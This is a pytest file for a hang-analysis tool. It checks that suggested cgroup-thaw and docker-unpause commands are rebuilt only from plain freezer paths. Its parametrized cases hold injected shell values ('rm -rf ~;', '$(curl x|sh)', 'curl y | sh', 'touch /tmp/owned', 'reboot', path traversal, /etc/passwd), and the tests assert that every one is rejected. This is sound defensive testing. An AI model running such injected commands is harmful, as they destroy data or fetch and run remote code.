"""A command hangscope suggests is its own: the thaw of a frozen rank is rebuilt from the freezer's control file the
node named, and only a plain path goes in; text from a node or a crafted snapshot file never becomes one."""

from __future__ import annotations

import dataclasses

import pytest

from analysis_snapshots import ALL_REDUCE, rank, snapshot
from app.analysis import analyze
from app.analysis.prose.state import thaw_command, unpause_command
from app.model import ProcessHold


@pytest.mark.parametrize("thaw, expect", [
    ("echo 0 > /sys/fs/cgroup/slurm.slice/job_311/cgroup.freeze",
     "echo 0 > /sys/fs/cgroup/slurm.slice/job_311/cgroup.freeze"),
    ("echo THAWED > /sys/fs/cgroup/freezer/batch/uid_1000/freezer.state",
     "echo THAWED > /sys/fs/cgroup/freezer/batch/uid_1000/freezer.state"),
    # a component a shared bundle hid stays hangscope's placeholder
    ("echo 0 > /sys/fs/cgroup/<str len=19 #0badc0de>/cgroup.freeze",
     "echo 0 > /sys/fs/cgroup/<str len=19 #0badc0de>/cgroup.freeze"),
    ("rm -rf ~; echo 0 > /sys/fs/cgroup/a/cgroup.freeze", ""),
    ("echo 0 > /sys/fs/cgroup/a$(curl x|sh)/cgroup.freeze", ""),
    ("echo 0 > /sys/fs/cgroup/a'b/cgroup.freeze", ""),
    ("echo 0 > /sys/fs/cgroup/a b/cgroup.freeze", ""),
    ("echo 0 > /sys/fs/cgroup/../../etc/cgroup.freeze", ""),
    ("echo 0 > /etc/passwd", ""),  # not a freezer's control file
    ("echo THAWED > /sys/fs/cgroup/a/cgroup.freeze", ""),  # not the value that file takes
    ("echo 0 > /sys/fs/cgroup/a/cgroup.freeze\nreboot", ""),
])
def test_a_thaw_is_suggested_only_as_a_plain_path_to_a_freezer(thaw: str, expect: str) -> None:
    assert thaw_command(ProcessHold(kind="frozen", freezer="v2", thaw=thaw)) == expect


def test_a_container_hint_is_kept_only_in_its_own_shape() -> None:
    assert unpause_command(ProcessHold(kind="frozen", container="docker unpause 3f2a9c01b7e4")) == \
        "docker unpause 3f2a9c01b7e4"
    assert unpause_command(ProcessHold(kind="frozen", container="docker unpause x; curl y | sh")) == ""


def test_a_crafted_thaw_never_reaches_the_headline() -> None:
    bad = "x; touch /tmp/owned | sh #"
    ranks = [rank(r, f"node0{r // 4 + 1}", ALL_REDUCE) for r in range(8)]
    ranks[5] = dataclasses.replace(ranks[5], state="S", hold=ProcessHold(
        kind="frozen", freezer="v2", cgroup="/job$(touch /tmp/owned)'x", freezer_state="FROZEN", thaw=bad))
    verdict = analyze(snapshot(ranks)).verdict
    assert "frozen by the cgroup freezer" in verdict, verdict
    assert verdict.endswith(f"; thaw its cgroup: `cat /proc/{ranks[5].pid}/cgroup` on node02 names it."), verdict
    assert bad not in verdict and "`echo" not in verdict  # the path is a fact shown, never put in a command
